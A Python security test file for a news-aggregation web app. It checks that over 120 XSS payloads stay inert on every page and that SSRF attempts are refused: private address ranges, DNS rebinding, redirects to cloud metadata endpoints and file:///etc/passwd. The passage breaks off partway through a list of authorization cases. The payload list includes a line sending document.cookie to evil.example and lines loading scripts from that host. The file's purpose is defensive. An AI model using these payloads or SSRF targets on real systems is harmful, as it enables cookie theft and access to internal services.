"""Security: an XSS payload corpus through every page and JSON twin; SSRF attempts against the
fetcher on loopback (every special-purpose address range, DNS answers that change between the
check and the connection, redirects) and through ``POST /api/ingest``; the token on every write
route and no write on any read; SQL built only from constants and placeholders.

tests/test_serve.py, tests/test_browser.py and tests/test_fetcher.py hold the first case of each
(one hostile page, the CSP in Chromium, a few address spellings); this file is the breadth.
"""

from __future__ import annotations

import hashlib
import html
import http.server
import ipaddress
import json
import re
import socket
import sqlite3
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import httpx
import pytest
from click.testing import CliRunner
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from markupsafe import escape
from starlette.routing import Mount

import _sqlaudit
from crosswire.cli import main
from crosswire.ingest import safety
from crosswire.ingest.fetcher import Fetched, Fetcher, Policy
from crosswire.records import Failure
from crosswire.serve import views
from crosswire.serve.app import CSP, create_app
from crosswire.serve.settings import Settings

from conftest import ROOT, copy_db

TOKEN = "s3cret-for-security-tests"  # noqa: S105 - a test token
AUTH = {"Authorization": f"Bearer {TOKEN}"}

# -- the XSS corpus ------------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\rsrc=//evil.example></script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    '"><script>alert(1)</script>',
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "` onmouseover=alert(1) `",
    '"/><img src=x onerror=alert(1)>',
    "'\"--></style></script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example"><button>x</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<table background="javascript:alert(1)">',
    "<xss onpointerover=alert(1)>x</xss>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script>fetch('//evil.example/?c='+document.cookie)</script>",
    "{{7*7}}<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% raw %}{{ config }}{% endraw %}",
    "<%= 7*7 %>",
    "\u2028<script>alert(1)</script>\u2029",
    "\x00<script>alert(1)</script>",
    "<script>alert(1)</script\x20>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<div onmouseenter=alert(1)>x</div>",
    "<p onauxclick=alert(1)>x</p>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<image href=x onerror=alert(1)>",
    '<img srcset=",,,,,x onerror=alert(1)">',
    "<frameset onload=alert(1)>",
    '<object type=text/html data="data:text/html,<script>alert(1)</script>">',
    "</script><svg onload=alert(1)>",
    '"}]});alert(1);//',
    "</script><!--",
    "<x contenteditable onblur=alert(1)>x",
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<A HREF="JAVASCRIPT:alert(1)">x</A>',
]
# Upper-cased twins of the first twenty: tag and handler names are matched case-insensitively.
PAYLOADS += [u for u in dict.fromkeys(p.upper() for p in PAYLOADS[:20]) if u not in PAYLOADS]
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 120

#: Each page carries this many payloads in every one of its fields (one page per payload took
#: 20 s to read; the fields are escaped whatever else they hold).
GROUP = 8

#: The tags and attributes the templates and drawn markup write; anything else in a page came
#: from its data.
TAGS = frozenset(
    "html head meta title link script body header nav form input button main footer a h1 h2 p "
    "section dl dt dd ul ol li code article span details summary table thead tbody tr th td "
    "caption div strong mark svg line rect text image circle label".split()
)
ATTRIBUTES = frozenset(
    "lang charset name content href rel src defer class id title action method role type "
    "placeholder aria-label value colspan open viewbox x y x1 y1 x2 y2 width height cx cy r "
    "xmlns".split()
)
URL_ATTRIBUTES = frozenset({"href", "src", "action"})


class _Tags(HTMLParser):
    """Every tag and attribute of a page, and what is wrong with any of them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = f"<{tag} {attrs}>"
        if tag not in TAGS:
            self.problems.append(f"tag {where}")
        for name, value in attrs:
            if name not in ATTRIBUTES or name.startswith("on"):
                self.problems.append(f"attribute {name} in {where}")
            if name in URL_ATTRIBUTES and not _local_url(value or ""):
                self.problems.append(f"url {value!r} in {where}")
        if tag == "script" and dict(attrs).get("src") != "/static/app.js":
            self.problems.append(f"script {where}")
        if tag == "meta" and not (
            {"charset"} == {n for n, _ in attrs} or ("name", "viewport") in attrs
        ):
            self.problems.append(f"meta {where}")

    handle_startendtag = handle_starttag


def _local_url(value: str) -> bool:
    # Only this site's own paths: not "//host", "/\host" (browsers read it as "//"), a scheme
    # (javascript:, data:) or anything a browser would strip control characters from.
    if re.search(r"[\x00-\x20\\]", value):
        return False
    return value.startswith("#") or (value.startswith("/") and not value.startswith("//"))


def assert_safe_html(response: httpx.Response, where: str) -> None:
    assert response.headers["content-type"].startswith("text/html"), where
    assert response.headers["content-security-policy"] == CSP, where
    assert response.headers["x-content-type-options"] == "nosniff", where
    body = response.text
    parser = _Tags()
    parser.feed(body)
    parser.close()
    assert not parser.problems, (where, parser.problems[:5])
    # The parser is lenient; the raw text is checked too: one script tag (ours), no handler or
    # javascript: URL anywhere inside a tag.
    assert len(re.findall(r"<\s*script", body, re.I)) == 1, where
    for tag in re.findall(r"<[a-zA-Z][^>]*>", body):
        # Quoted values may hold any escaped text (a title attribute saying "onerror="); a
        # quote inside one is escaped, so the values end where they seem to.
        bare = re.sub(r'"[^"]*"', '""', tag)
        assert not re.search(r"\son\w+\s*=", bare, re.I), (where, tag)
        assert "javascript:" not in bare.lower(), (where, tag)


def assert_json(response: httpx.Response, where: str) -> Any:
    assert response.headers["content-type"] == "application/json", where
    assert response.headers["x-content-type-options"] == "nosniff", where
    return response.json()


def _page(n: int, group: list[str]) -> str:
    """A news page carrying ``group`` in each of its fields: title, description, author, site
    name, canonical link, JSON-LD, headline, byline, text, a quote, a link, raw markup."""
    joined = " ".join(group)
    e = html.escape(joined, quote=True)
    ld = json.dumps(
        {
            "@type": "NewsArticle",
            "headline": joined,
            "author": {"name": joined},
            "publisher": {"name": joined},
            "url": group[0],
        }
    )
    links = "".join(f'<a href="{html.escape(p, quote=True)}">{html.escape(p)}</a> ' for p in group)
    return f"""<html><head><title>{e}</title>
<meta name="description" content="{e}"><meta property="og:description" content="{e}">
<meta name="author" content="{e}"><meta property="og:site_name" content="{e}">
<link rel="canonical" href="https://wire{n}.example/{quote(joined, safe="")}">
<script type="application/ld+json">{ld}</script></head><body><article>
<h1>Storm {n} {e}</h1><p class="byline">By {e}</p>
<p>A storm hit the coast of Norway on Monday, killing {n + 3} people, officials said. {e} was
written on a wall in Bergen.</p>
<p>"We are ready for {e}," said Jonas Gahr Store, the prime minister.</p>
<p>Police said {e} had been painted on {n + 10} buses. The mayor of Oslo, Marianne Borgen, said
40 homes were damaged.</p>
<p>{links} More rain is expected on Tuesday across western Norway, the institute said.</p>
<div>{joined}</div></article></body></html>"""


@dataclass
class Hostile:
    db: Path
    groups: list[list[str]]


def _poison(db: Path) -> None:
    """Every shown text field of what was stored and connected holds the whole corpus: names,
    roles, story titles, sources, quotes, claims, places, copy reasons, removed chrome."""
    every = " ".join(PAYLOADS)
    listed = json.dumps(PAYLOADS[:40])
    with sqlite3.connect(db) as conn:
        conn.execute(
            "UPDATE articles SET site = ?, original_site = ?, byline = ?, description = ?, "
            "original_url = ?, errors = ?",
            (every, every, every, every, every, json.dumps([every])),
        )
        conn.execute(
            "UPDATE stories SET title = ?, sources = ?, entities = ?", (every, listed, listed)
        )
        conn.execute(
            "UPDATE corpus_entities SET name = ?, aliases = ?, roles = ?",
            (every, listed, json.dumps([[every, []]])),
        )
        conn.execute("UPDATE entities SET name = ?, aliases = ?", (every, listed))
        conn.execute("UPDATE quotes SET speaker_name = ?, text = ?, cue = ?", (every, every, every))
        conn.execute(
            "UPDATE claims SET measure = ?, aspect = ?, claimant_name = ?, text = ?, sentence = ?",
            (every, every, every, every, every),
        )
        conn.execute("UPDATE places SET name = ?", (every,))
        conn.execute("UPDATE copies SET reason = ?", (every,))
        conn.execute("UPDATE removed SET text = ?, reason = ?", (every, every))
        conn.execute("UPDATE sources SET location = ?", (every,))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    root = tmp_path_factory.mktemp("hostile")
    groups = [PAYLOADS[i : i + GROUP] for i in range(0, len(PAYLOADS), GROUP)]
    lines = []
    for n, group in enumerate(groups):
        joined = quote(" ".join(group), safe="")
        url = f"https://news{n}.example/story/{joined}?q={joined}"
        lines.append(json.dumps({"url": url, "html": _page(n, group)}))
    (root / "pages.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    db = root / "hostile.db"
    result = CliRunner().invoke(main, ["ingest", "-q", "--db", str(db), str(root / "pages.jsonl")])
    assert result.exit_code == 0, result.output
    return Hostile(db, groups)


@pytest.fixture(scope="module")
def poisoned(hostile: Hostile, tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = copy_db(hostile.db, tmp_path_factory.mktemp("poisoned"))
    _poison(db)
    return db


def _every_page(c: TestClient) -> list[str]:
    """Every page kind for what the store holds: lists, each story, article and entity."""
    stories = [s["id"] for s in c.get("/stories.json?per_page=500").json()["items"]]
    articles = {a["id"] for s in stories for a in c.get(f"/story/{s}.json").json()["timeline"]}
    entities = [e["id"] for e in c.get("/entities.json?per_page=500").json()["items"]]
    assert stories and articles and entities
    paths = ["/stories", "/entities", "/search?q=storm", "/search?q=script", "/search?q=alert"]
    paths += [f"/story/{s}" for s in stories]
    paths += [f"/stories?entity={e}" for e in entities[:3]]
    paths += [f"/article/{a}" for a in sorted(articles)]
    paths += [f"/article/{a}?hl=0-400" for a in sorted(articles)[:3]]
    paths += [f"/entity/{e}" for e in entities]
    return paths


def _check_pages(db: Path) -> tuple[int, int]:
    """Check every page and its twin; gives how many pages, and how many of them show the
    whole corpus (escaped) at least once."""
    every = str(escape(" ".join(PAYLOADS)))
    showing = 0
    with TestClient(create_app(Settings(db))) as c:
        paths = _every_page(c)
        for path in paths:
            page = c.get(path)
            assert page.status_code == 200, path
            assert_safe_html(page, path)
            showing += every in page.text
            base, _, query = path.partition("?")
            twin = c.get(f"{base}.json" + (f"?{query}" if query else ""))
            assert twin.status_code == 200, path
            assert_json(twin, path)
    return len(paths), showing


def test_pages_read_from_hostile_pages_stay_inert(hostile: Hostile) -> None:
    pages, _ = _check_pages(hostile.db)
    assert pages >= 10
    with TestClient(create_app(Settings(hostile.db))) as c:
        # The text is shown as it was written, escaped: nothing was dropped to be safe.
        stories = c.get("/stories.json?per_page=500").json()["items"]
        article = c.get(f"/story/{stories[0]['id']}.json").json()["timeline"][0]["id"]
        data = c.get(f"/article/{article}.json").json()["article"]
        match = re.search(r"Storm (\d+)", data["text"])
        assert match, data["text"][:200]
        for payload in hostile.groups[int(match.group(1))]:
            if payload.isascii() and payload.isprintable() and payload == payload.strip():
                assert payload in data["text"], payload


def test_every_shown_field_holding_the_corpus_stays_inert(poisoned: Path) -> None:
    pages, showing = _check_pages(poisoned)
    # Not a vacuous pass: the poisoned fields are on the pages, as text.
    assert pages >= 10 and showing >= pages - 5, (pages, showing)


@pytest.mark.parametrize("kind", ["search", "story", "article", "entity", "filters", "hl"])
def test_payloads_in_requests_are_escaped_in_pages_and_error_pages(
    poisoned: Path, kind: str
) -> None:
    with TestClient(create_app(Settings(poisoned))) as c:
        article = next(iter(c.get("/search.json?q=storm").json()["articles"]))["id"]
        for payload in PAYLOADS:
            q = quote(payload, safe="")
            paths = {
                "search": [f"/search?q={q}"],
                "story": [f"/story/{q}"],
                "article": [f"/article/{q}"],
                "entity": [f"/entity/{q}"],
                "filters": [f"/stories?since={q}", f"/stories?source={q}", f"/stories?entity={q}"],
                "hl": [f"/article/{article}?hl={q}"],
            }[kind]
            for path in paths:
                page = c.get(path)
                assert page.status_code in (200, 400, 404, 422), (path, page.status_code)
                assert_safe_html(page, path)
                base, _, query = path.partition("?")
                twin = c.get(f"{base}.json" + (f"?{query}" if query else ""))
                assert twin.status_code == page.status_code, path
                assert_json(twin, path)


@pytest.mark.parametrize(
    "path",
    ["/%2F%2Fevil.example/x", "/%2F%2F%2Fevil.example/x", "/%5Cevil.example", "/%09/evil.example"],
)
def test_the_json_link_never_leaves_the_site(poisoned: Path, path: str) -> None:
    # Regression: the footer's link was the request path plus ".json", so "//evil.example/x"
    # linked to another site.
    with TestClient(create_app(Settings(poisoned))) as c:
        page = c.get(path)
    assert page.status_code == 404
    assert_safe_html(page, path)


def test_a_crash_answers_with_the_security_headers(
    poisoned: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Regression: the answer to an unexpected exception is made outside the app's middleware
    # and went out without the Content-Security-Policy.
    def crash(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("boom")

    monkeypatch.setattr(views, "entities_page", crash)
    with TestClient(create_app(Settings(poisoned)), raise_server_exceptions=False) as c:
        page = c.get("/entities")
        twin = c.get("/entities.json")
    assert page.status_code == twin.status_code == 500
    assert_safe_html(page, "/entities")
    assert assert_json(twin, "/entities.json")["error"]["code"] == "internal"


# -- SSRF ----------------------------------------------------------------------------------------

#: One address in each special-purpose range of IANA's IPv4 and IPv6 registries (and the
#: deprecated ones still routed somewhere), as (range, address).
SPECIAL = [
    ("0.0.0.0/8", "0.0.0.0"),  # noqa: S104 - an address to refuse, not to bind
    ("0.0.0.0/8", "0.1.2.3"),
    ("10.0.0.0/8", "10.20.30.40"),
    ("100.64.0.0/10", "100.100.100.200"),
    ("127.0.0.0/8", "127.0.0.1"),
    ("127.0.0.0/8", "127.255.255.254"),
    ("169.254.0.0/16", "169.254.169.254"),
    ("172.16.0.0/12", "172.31.255.1"),
    ("192.0.0.0/24", "192.0.0.1"),
    ("192.0.0.0/24", "192.0.0.8"),
    ("192.0.0.0/24", "192.0.0.170"),
    ("192.0.2.0/24", "192.0.2.1"),
    ("192.88.99.0/24", "192.88.99.1"),
    ("192.168.0.0/16", "192.168.1.1"),
    ("198.18.0.0/15", "198.19.0.1"),
    ("198.51.100.0/24", "198.51.100.7"),
    ("203.0.113.0/24", "203.0.113.9"),
    ("224.0.0.0/4", "224.0.0.251"),
    ("224.0.0.0/4", "239.255.255.250"),
    ("240.0.0.0/4", "240.0.0.1"),
    ("255.255.255.255/32", "255.255.255.255"),
    ("::1/128", "::1"),
    ("::/128", "::"),
    ("::/96 (IPv4-compatible)", "::127.0.0.1"),
    ("::ffff:0:0/96", "::ffff:127.0.0.1"),
    ("::ffff:0:0/96", "::ffff:169.254.169.254"),
    ("::ffff:0:0:0/96", "::ffff:0:10.0.0.1"),
    ("64:ff9b::/96", "64:ff9b::7f00:1"),
    ("64:ff9b::/96", "64:ff9b::a9fe:a9fe"),
    ("64:ff9b:1::/48", "64:ff9b:1::1"),
    ("100::/64", "100::1"),
    ("2001::/32 (Teredo)", "2001::1"),
    ("2001:2::/48", "2001:2::1"),
    ("2001:10::/28", "2001:10::1"),
    ("2001:db8::/32", "2001:db8::1"),
    ("2002::/16 (6to4)", "2002:7f00:1::1"),
    ("2002::/16 (6to4)", "2002:a9fe:a9fe::1"),
    ("3fff::/20", "3fff::1"),
    ("5f00::/16", "5f00::1"),
    ("fc00::/7", "fc00::1"),
    ("fc00::/7", "fd12:3456::1"),
    ("fe80::/10", "fe80::1"),
    ("fec0::/10", "fec0::1"),
    ("ff00::/8", "ff02::1"),
    ("ff00::/8", "ff0e::1"),
]


def _literal(address: str) -> str:
    return f"[{address}]" if ":" in address else address


@dataclass
class _Recorder:
    """An HTTP client transport that records what reaches it and answers with a page: a
    request the fetcher lets through lands here instead of on a network."""

    hits: list[str] = field(default_factory=list)

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.hits.append(str(request.url))
        return httpx.Response(200, html=PAGE.decode())


PAGE = (
    b"<html><head><title>Quake shakes Lima</title></head><body><article><h1>Quake shakes Lima"
    b"</h1><p>A magnitude 6.1 earthquake shook Lima on Friday, Peru's geophysics institute said."
    b" No damage was reported in the capital.</p></article></body></html>"
)


def _recording_fetcher(allow_private: bool) -> tuple[Fetcher, _Recorder]:
    fetcher = Fetcher(Policy(allow_private=allow_private, delay=0.0, retries=0, robots=False))
    recorder = _Recorder()
    fetcher._client.close()
    fetcher._client = httpx.Client(transport=httpx.MockTransport(recorder))
    return fetcher, recorder


def _resolving(monkeypatch: pytest.MonkeyPatch, answers: dict[str, list[str]]) -> None:
    """Names in ``answers`` resolve to those addresses (for the check and for anyone else)."""
    real = socket.getaddrinfo

    def getaddrinfo(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if host in answers:
            return [
                (
                    socket.AF_INET6 if ":" in a else socket.AF_INET,
                    socket.SOCK_STREAM,
                    6,
                    "",
                    (a, port),
                )
                for a in answers[host]
            ]
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)


@pytest.mark.parametrize(("network", "address"), SPECIAL, ids=[a for _, a in SPECIAL])
def test_every_special_purpose_range_is_refused_unless_allowed(
    network: str, address: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert not safety.is_public(address), network
    # As a literal, and as the answer for a name; and among public answers: one bad address
    # is enough to refuse the host.
    _resolving(monkeypatch, {"special.test": [address], "mixed.test": ["93.184.216.34", address]})
    urls = [f"http://{_literal(address)}/", "http://special.test/", "http://mixed.test/"]
    fetcher, recorder = _recording_fetcher(allow_private=False)
    with fetcher:
        for url in urls:
            got = fetcher.fetch(url)
            assert isinstance(got, Failure) and got.error.startswith("refused"), url
    assert recorder.hits == []
    # Allowed, the same requests go out (to the checked address): only the check stopped them.
    fetcher, recorder = _recording_fetcher(allow_private=True)
    with fetcher:
        assert isinstance(fetcher.fetch(urls[0]), Fetched)
    (hit,) = recorder.hits
    assert ipaddress.ip_address(httpx.URL(hit).host) == ipaddress.ip_address(address)


@pytest.mark.parametrize(
    "address",
    [
        "93.184.216.34",
        "2606:2800:220:1:248:1893:25c8:1946",
        "64:ff9b::5db8:d822",
        "::ffff:93.184.216.34",
        "2002:5db8:d822::1",
    ],
)
def test_public_addresses_are_fetched(address: str) -> None:
    # The check is not so wide that it refuses the internet (NAT64 and 6to4 of public ones too).
    fetcher, recorder = _recording_fetcher(allow_private=False)
    with fetcher:
        assert isinstance(fetcher.fetch(f"http://{_literal(address)}/news"), Fetched)
    assert len(recorder.hits) == 1


@dataclass
class Loopback:
    """Two servers on one port: 127.0.0.2 plays the public host the check approved,
    127.0.0.1 the internal service a changed DNS answer points at."""

    port: int
    hits: dict[str, list[str]]


class _Handler(http.server.BaseHTTPRequestHandler):
    hits: list[str]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        status, body = (200, PAGE) if self.path.startswith("/page") else (404, b"no")
        if self.path.startswith("/go"):
            target = unquote(self.path.split("to=", 1)[1])
            self.send_response(302)
            self.send_header(
                "Location", target.replace("%PORT%", str(self.server.server_address[1]))
            )
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        self.send_response(status)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def loopback() -> Iterator[Loopback]:
    servers: list[http.server.ThreadingHTTPServer] = []
    hits: dict[str, list[str]] = {"127.0.0.2": [], "127.0.0.1": []}

    def serve(host: str, port: int) -> http.server.ThreadingHTTPServer:
        handler = type("H", (_Handler,), {"hits": hits[host]})
        server = http.server.ThreadingHTTPServer((host, port), handler)
        server.daemon_threads = True
        # A short poll: shutting down waits for it, twice per test.
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        servers.append(server)
        return server

    for _ in range(20):
        try:
            checked = serve("127.0.0.2", 0)
            port = checked.server_address[1]
            serve("127.0.0.1", port)
            break
        except OSError:  # the port is taken on 127.0.0.1: try another
            for server in servers:
                server.shutdown()
                server.server_close()
            servers.clear()
    else:
        pytest.skip("no port free on both 127.0.0.1 and 127.0.0.2")
    yield Loopback(port, hits)
    for server in servers:
        server.shutdown()
        server.server_close()


def _rebinding(monkeypatch: pytest.MonkeyPatch, host: str) -> list[str]:
    """``host``'s address check sees 127.0.0.2 (taken as public here); any later lookup, such as
    an HTTP client resolving the name itself at connection time, gets 127.0.0.1. Gives the
    log of lookups of ``host``: (who, answer)."""
    lookups: list[str] = []
    real = socket.getaddrinfo
    public = safety.is_public

    def answer(address: str, port: Any) -> list[Any]:
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]

    def for_the_check(name: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if name == host:
            lookups.append("check: 127.0.0.2")
            return answer("127.0.0.2", port)
        return real(name, port, *args, **kwargs)

    def for_anyone_else(name: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if name == host:
            lookups.append("connect: 127.0.0.1")
            return answer("127.0.0.1", port)
        return real(name, port, *args, **kwargs)

    class _Socket:
        getaddrinfo = staticmethod(for_the_check)
        gaierror = socket.gaierror
        SOCK_STREAM = socket.SOCK_STREAM

    monkeypatch.setattr(safety, "socket", _Socket)
    monkeypatch.setattr(socket, "getaddrinfo", for_anyone_else)
    monkeypatch.setattr(safety, "is_public", lambda a: a == "127.0.0.2" or public(a))
    return lookups


@pytest.mark.parametrize("robots", [False, True])
def test_a_dns_answer_changed_after_the_check_is_never_connected_to(
    loopback: Loopback, monkeypatch: pytest.MonkeyPatch, robots: bool
) -> None:
    lookups = _rebinding(monkeypatch, "rebind.test")
    policy = Policy(delay=0.0, retries=0, timeout=5.0, robots=robots)
    with Fetcher(policy) as fetcher:
        got = fetcher.fetch(f"http://rebind.test:{loopback.port}/page")
    assert isinstance(got, Fetched) and got.document is not None, got
    assert got.document.content == PAGE
    # Connected to the address the check approved, never to what a second lookup says.
    assert "/page" in loopback.hits["127.0.0.2"]
    assert loopback.hits["127.0.0.1"] == []
    assert lookups and all(x.startswith("check") for x in lookups)


def test_a_dns_answer_changed_after_the_check_through_the_api(
    loopback: Loopback, monkeypatch: pytest.MonkeyPatch, samples_db: Path, tmp_path: Path
) -> None:
    lookups = _rebinding(monkeypatch, "rebind.test")
    db = copy_db(samples_db, tmp_path)
    with TestClient(create_app(Settings(db, token=TOKEN))) as c:
        url = f"http://rebind.test:{loopback.port}/page"
        made = c.post("/api/ingest", json={"url": url}, headers=AUTH)
    assert made.status_code == 201, made.text
    assert made.json()["title"] == "Quake shakes Lima"
    assert "/page" in loopback.hits["127.0.0.2"] and loopback.hits["127.0.0.1"] == []
    assert all(x.startswith("check") for x in lookups)


#: Where a redirect may try to send the fetcher; %PORT% is the loopback servers' port.
REDIRECTS = [
    "http://127.0.0.1:%PORT%/page",
    "http://localhost:%PORT%/page",
    "http://localhost.:%PORT%/page",
    "http://[::1]:%PORT%/page",
    "http://[::ffff:127.0.0.1]:%PORT%/page",
    "http://[::127.0.0.1]:%PORT%/page",
    "http://[64:ff9b::7f00:1]:%PORT%/page",
    "http://0.0.0.0:%PORT%/page",
    "http://0:%PORT%/page",
    "http://127.1:%PORT%/page",
    "http://2130706433:%PORT%/page",
    "http://0x7f000001:%PORT%/page",
    "http://0x7f.0.0.1:%PORT%/page",
    "http://0177.0.0.1:%PORT%/page",
    "//127.0.0.1:%PORT%/page",
    "http://user:pw@127.0.0.2:%PORT%/page",
    "http://169.254.169.254/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal./computeMetadata/v1/",
    "http://10.0.0.1/",
    "http://192.168.0.1/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:%PORT%/_page",
    "ftp://127.0.0.1:%PORT%/page",
]


@pytest.mark.parametrize("target", REDIRECTS)
def test_redirects_to_private_addresses_are_refused(
    loopback: Loopback, monkeypatch: pytest.MonkeyPatch, target: str
) -> None:
    _resolving(monkeypatch, {"metadata.google.internal.": ["169.254.169.254"]})
    monkeypatch.setattr(
        safety, "is_public", lambda a, real=safety.is_public: a == "127.0.0.2" or real(a)
    )
    start = f"http://127.0.0.2:{loopback.port}/go?to={quote(target, safe='')}"
    with Fetcher(Policy(delay=0.0, retries=0, timeout=2.0, robots=False)) as fetcher:
        got = fetcher.fetch(start)
    # Refused by the address check, or (an octal address) by the HTTP client as no valid URL.
    assert isinstance(got, Failure), got
    assert got.error.startswith("refused") or "Invalid URL" in got.error, got
    assert loopback.hits["127.0.0.1"] == []
    assert [p for p in loopback.hits["127.0.0.2"] if p.startswith("/page")] == []


def test_the_api_refuses_private_urls(samples_db: Path, tmp_path: Path) -> None:
    db = copy_db(samples_db, tmp_path)
    urls = [f"http://{_literal(a)}:8080/x" for _, a in SPECIAL]
    urls += ["http://localhost/", "http://127.1/", "file:///etc/passwd", "http://u:p@example.org/"]
    before = _digest(db)
    with TestClient(create_app(Settings(db, token=TOKEN, fetch_timeout=2.0))) as c:
        for url in urls:
            response = c.post("/api/ingest", json={"url": url}, headers=AUTH)
            assert response.status_code == 422, (url, response.text)
            error = response.json()["error"]
            assert error["code"] == "not_ingested", url
            assert error["message"].startswith("refused"), (url, error)
    assert _digest(db) == before


# -- the token -----------------------------------------------------------------------------------

READS = frozenset({"GET", "HEAD"})


def _routes(app: Any) -> list[tuple[str, frozenset[str]]]:
    out = []
    for route in app.routes:
        if isinstance(route, Mount):
            out.append((route.path + "/app.css", READS))
        elif isinstance(route, APIRoute) or hasattr(route, "methods"):
            out.append((route.path, frozenset(route.methods or ())))
    return out


def _digest(db: Path) -> str:
    with sqlite3.connect(db) as conn:
        tables = [
            r[0]
            for r in conn.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE '%fts%' "
                "ORDER BY name"
            )
        ]
        h = hashlib.sha256()
        for table in tables:
            for row in conn.execute(f'SELECT * FROM "{table}" ORDER BY 1'):  # noqa: S608 - names from sqlite_master
                h.update(repr(row).encode())
        for fts in ("articles_fts", "quotes_fts"):
            h.update(repr(conn.execute(f"SELECT count(*) FROM {fts}").fetchone()).encode())  # noqa: S608 - fixed names
    return h.hexdigest()


def _fill(path: str, ids: dict[str, str]) -> str:
    return re.sub(r"\{(\w+)\}", lambda m: ids.get(m.group(1), "x"), path)


BAD_AUTH: list[dict[str, Any]] = [
    {},
